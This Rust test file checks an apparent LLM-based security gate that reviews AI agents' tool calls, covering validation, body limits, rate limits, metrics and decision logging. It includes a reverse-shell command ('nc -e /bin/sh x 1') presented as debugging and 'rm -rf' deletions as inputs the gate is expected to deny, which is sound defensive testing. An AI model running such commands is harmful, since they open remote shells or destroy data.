//! The service around `/verify`: validation (422), the 1 MiB body limit on real bytes (413),
//! the rate limit (429), `/health`, `/metrics` in both formats, `GET /`, unknown routes.

mod support;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use serde_json::{Value, json};
use support::sidecar::Sidecar;
use support::standin::{Reply, StandIn};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_bodies_get_pydantic_style_422s() {
    let standin = StandIn::answering("ALLOW").await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[]);

    let (status, answer) = sidecar.verify(&json!({"params": {"command": "ls"}})).await;
    assert_eq!(status, 422);
    assert_eq!(
        answer["detail"],
        json!([{"type": "missing", "loc": ["body", "tool"], "msg": "Field required",
                "input": {"params": {"command": "ls"}}}])
    );
    let (status, answer) = sidecar
        .verify(&json!({"tool": "exec", "params": "ls", "agent": 3}))
        .await;
    assert_eq!(status, 422);
    let kinds: Vec<(&str, Value)> = answer["detail"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["type"].as_str().unwrap(), e["loc"].clone()))
        .collect();
    assert_eq!(
        kinds,
        [
            ("dict_type", json!(["body", "params"])),
            ("string_type", json!(["body", "agent"])),
        ]
    );
    let resp = support::sidecar::client()
        .post(format!("{}/verify", sidecar.url))
        .body("{not json")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 422);
    let answer: Value = resp.json().await.unwrap();
    assert_eq!(answer["detail"][0]["type"], "json_invalid");

    // nothing reached the provider, nothing was logged or counted
    assert_eq!(standin.count(), 0);
    assert!(sidecar.decisions().is_empty());
    let m: Value = sidecar.get("/metrics").await.json().await.unwrap();
    assert_eq!(m["total_requests"], 0);
}

/// Sends a raw HTTP/1.1 request and returns the status line's code and the body.
fn raw_http(url: &str, head: &str, body_chunks: &[Vec<u8>], chunked: bool) -> (u16, String) {
    let addr = url.trim_start_matches("http://");
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(head.as_bytes()).unwrap();
    for chunk in body_chunks {
        // The server may answer and close before the whole body is sent.
        let ok = if chunked {
            s.write_all(format!("{:x}\r\n", chunk.len()).as_bytes())
                .and_then(|_| s.write_all(chunk))
                .and_then(|_| s.write_all(b"\r\n"))
        } else {
            s.write_all(chunk)
        };
        if ok.is_err() {
            break;
        }
    }
    if chunked {
        let _ = s.write_all(b"0\r\n\r\n");
    }
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    let text = String::from_utf8_lossy(&out).into_owned();
    let code = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let body = text.split("\r\n\r\n").nth(1).unwrap_or("").to_string();
    (code, body)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn body_limit_counts_real_bytes() {
    let standin = StandIn::answering("ALLOW").await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[]);
    let big_command = "a".repeat(1 << 20);
    let big = json!({"tool": "exec", "params": {"command": big_command}}).to_string();

    // declared by Content-Length
    let (status, answer) = sidecar.verify(&serde_json::from_str(&big).unwrap()).await;
    assert_eq!(status, 413);
    assert_eq!(answer, json!({"detail": "Request body too large"}));

    // chunked, with no length declared: the reference's check misses this one
    let url = sidecar.url.clone();
    let chunks: Vec<Vec<u8>> = big
        .as_bytes()
        .chunks(64 << 10)
        .map(<[u8]>::to_vec)
        .collect();
    let (code, body) = tokio::task::spawn_blocking(move || {
        raw_http(
            &url,
            "POST /verify HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
             Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
            &chunks,
            true,
        )
    })
    .await
    .unwrap();
    assert_eq!(code, 413, "{body}");
    assert!(body.contains("Request body too large"), "{body}");

    // just under the limit is fine
    let fits = json!({"tool": "exec", "params": {"command": "a".repeat((1 << 20) - 100)}});
    assert!(fits.to_string().len() <= 1 << 20);
    let (status, _) = sidecar.verify(&fits).await;
    assert_eq!(status, 200);
    // a small chunked body too
    let url = sidecar.url.clone();
    let small = json!({"tool": "exec", "params": {"command": "ls"}}).to_string();
    let (code, body) = tokio::task::spawn_blocking(move || {
        raw_http(
            &url,
            "POST /verify HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\
             Connection: close\r\n\r\n",
            &[small.into_bytes()],
            true,
        )
    })
    .await
    .unwrap();
    assert_eq!(code, 200, "{body}");
    assert_eq!(standin.count(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rate_limit_answers_429() {
    let standin = StandIn::answering("ALLOW").await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[("VERIFY_RATE_LIMIT", "3")]);
    for _ in 0..3 {
        assert_eq!(sidecar.verify_command("ls").await.0, 200);
    }
    let (status, answer) = sidecar.verify_command("ls").await;
    assert_eq!(status, 429);
    assert_eq!(
        answer,
        json!({"detail": "Rate limit exceeded: max 3 requests per minute"})
    );
    // checked before any LLM work, not logged, counted as a request
    assert_eq!(standin.count(), 3);
    assert_eq!(sidecar.decisions().len(), 3);
    let m: Value = sidecar.get("/metrics").await.json().await.unwrap();
    assert_eq!(m["total_requests"], 4);
    assert_eq!(m["total_allows"], 3);
    assert_eq!(m["total_rate_limited"], 1);

    // a bad value falls back to 60
    let sidecar = Sidecar::for_provider("openai", &standin, &[("VERIFY_RATE_LIMIT", "lots")]);
    for _ in 0..10 {
        assert_eq!(sidecar.verify_command("ls").await.0, 200);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn health_makes_a_real_call_and_remembers_it() {
    let standin = StandIn::answering("ok").await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[]);
    let resp = sidecar.get("/health").await;
    assert_eq!(resp.status(), 200);
    let h: Value = resp.json().await.unwrap();
    assert_eq!(h["status"], "healthy");
    assert_eq!(h["model"], "gpt-4o-mini");
    assert!(h["latency_ms"].as_f64().is_some());
    assert_eq!(h["log_dir"], sidecar.log_dir.display().to_string());
    assert!(h.get("error").is_none());
    let probe = standin.last();
    assert_eq!(probe.json["max_tokens"], 5);
    assert_eq!(probe.user_prompt(), "say ok");
    assert!(
        probe.json["messages"][0]["content"]
            .as_str()
            .unwrap()
            .starts_with("You are a security gate")
    );
    // cached: a second check makes no second call
    let _ = sidecar.get("/health").await;
    assert_eq!(standin.count(), 1);

    let down = StandIn::start(|_, _| Reply::Status(503, None)).await;
    let sidecar = Sidecar::for_provider("anthropic", &down, &[]);
    let resp = sidecar.get("/health").await;
    assert_eq!(resp.status(), 200);
    let h: Value = resp.json().await.unwrap();
    assert_eq!(h["status"], "degraded");
    assert!(h["error"].as_str().unwrap().contains("503"), "{h}");
    // /health is not /verify: nothing counted, nothing logged
    let m: Value = sidecar.get("/metrics").await.json().await.unwrap();
    assert_eq!(m["total_requests"], 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_in_both_formats() {
    let standin = StandIn::answering("ALLOW").await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[]);
    standin.script([
        Reply::Answer("ALLOW".into()),
        Reply::Answer("DENY: no".into()),
        Reply::Status(500, None),
    ]);
    for _ in 0..3 {
        sidecar.verify_command("ls").await;
    }
    let m: Value = sidecar.get("/metrics").await.json().await.unwrap();
    for field in [
        "total_requests",
        "total_allows",
        "total_denies",
        "total_errors",
        "avg_latency_ms",
        "model",
        "uptime_seconds",
    ] {
        assert!(m.get(field).is_some(), "{field}: {m}");
    }
    assert_eq!(m["total_requests"], 3);
    assert_eq!(
        m["total_allows"], 2,
        "the fail-open answer counts as an allow"
    );
    assert_eq!(m["total_denies"], 1);
    assert_eq!(m["total_errors"], 1);
    assert_eq!(m["model"], "gpt-4o-mini");
    assert!(m["avg_latency_ms"].as_f64().unwrap() >= 0.0);

    let json_too: Value = sidecar
        .get("/metrics?format=json")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(json_too["total_requests"], 3);

    let resp = sidecar.get("/metrics?format=prometheus").await;
    assert_eq!(resp.status(), 200);
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/plain; version=0.0.4")
    );
    let text = resp.text().await.unwrap();
    for line in [
        "# TYPE rampart_verify_requests_total counter",
        "rampart_verify_requests_total 3",
        "rampart_verify_allows_total 2",
        "rampart_verify_denies_total 1",
        "rampart_verify_errors_total 1",
        "rampart_verify_rate_limited_total 0",
        "# TYPE rampart_verify_latency_seconds summary",
        "rampart_verify_latency_seconds_count 3",
        "rampart_verify_info{model=\"gpt-4o-mini\",provider=\"openai\"} 1",
    ] {
        assert!(text.lines().any(|l| l == line), "{line:?} missing:\n{text}");
    }
    // every sample line is `name[{labels}] value`
    for l in text.lines().filter(|l| !l.starts_with('#')) {
        let (_, value) = l.rsplit_once(' ').unwrap();
        assert!(value.parse::<f64>().is_ok(), "{l}");
    }
    assert_eq!(sidecar.get("/metrics?format=xml").await.status(), 400);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn root_and_unknown_routes() {
    let standin = StandIn::answering("ALLOW").await;
    let sidecar = Sidecar::for_provider("anthropic", &standin, &[]);
    let root: Value = sidecar.get("/").await.json().await.unwrap();
    assert_eq!(root["service"], "rampart-verify");
    assert_eq!(root["version"], "0.1.0");
    assert_eq!(root["model"], "claude-3-haiku-20240307");
    assert_eq!(
        root["recommended_models"],
        json!({"free": "qwen2.5-coder:1.5b", "budget": "gpt-4o-mini",
               "balanced": "claude-3-haiku-20240307"})
    );
    assert_eq!(standin.count(), 0, "GET / is cheap: no provider call");

    let resp = sidecar.get("/nope").await;
    assert_eq!(resp.status(), 404);
    assert_eq!(
        resp.json::<Value>().await.unwrap(),
        json!({"detail": "Not Found"})
    );
    let resp = sidecar.get("/verify").await;
    assert_eq!(resp.status(), 405);
    assert_eq!(
        resp.json::<Value>().await.unwrap(),
        json!({"detail": "Method Not Allowed"})
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn decision_log_lines() {
    let standin = StandIn::answering("DENY: reverse shell").await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[]);
    sidecar
        .verify(
            &json!({"tool": "exec", "params": {"command": "nc -e /bin/sh x 1"},
                        "agent": "claude-code", "session": "s", "policy": "p",
                        "task_context": "Debug networking"}),
        )
        .await;
    let lines = sidecar.decisions();
    assert_eq!(lines.len(), 1);
    let l = &lines[0];
    let keys: Vec<&str> = l.as_object().unwrap().keys().map(String::as_str).collect();
    for k in [
        "timestamp",
        "tool",
        "params",
        "agent",
        "session",
        "task_context",
        "decision",
        "reason",
        "model",
        "latency_ms",
    ] {
        assert!(keys.contains(&k), "{k}: {l}");
    }
    assert_eq!(l["tool"], "exec");
    assert_eq!(l["params"], json!({"command": "nc -e /bin/sh x 1"}));
    assert_eq!(l["decision"], "deny");
    assert_eq!(l["reason"], "reverse shell");
    assert_eq!(l["task_context"], "Debug networking");
    assert_eq!(l["model"], "gpt-4o-mini");
    // one decimal
    let ms = l["latency_ms"].as_f64().unwrap();
    assert_eq!((ms * 10.0).round() / 10.0, ms);
    // compact JSON, one object per line
    assert!(!sidecar.decisions_raw().contains("\": "));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_requests() {
    let standin = StandIn::start(|r, _| {
        let p = r.user_prompt();
        Reply::Answer(
            if p.contains("rm -rf") {
                "DENY: destroys"
            } else {
                "ALLOW"
            }
            .into(),
        )
    })
    .await;
    let sidecar = std::sync::Arc::new(Sidecar::for_provider(
        "openai",
        &standin,
        &[("VERIFY_RATE_LIMIT", "1000")],
    ));
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..64 {
        let sidecar = std::sync::Arc::clone(&sidecar);
        tasks.spawn(async move {
            let cmd = if i % 2 == 0 {
                format!("rm -rf /tmp/{i}")
            } else {
                format!("ls {i}")
            };
            let (status, answer) = sidecar.verify_command(&cmd).await;
            (i, status, answer["decision"].as_str().unwrap().to_string())
        });
    }
    while let Some(r) = tasks.join_next().await {
        let (i, status, decision) = r.unwrap();
        assert_eq!(status, 200);
        assert_eq!(decision, if i % 2 == 0 { "deny" } else { "allow" });
    }
    assert_eq!(sidecar.decisions().len(), 64);
}
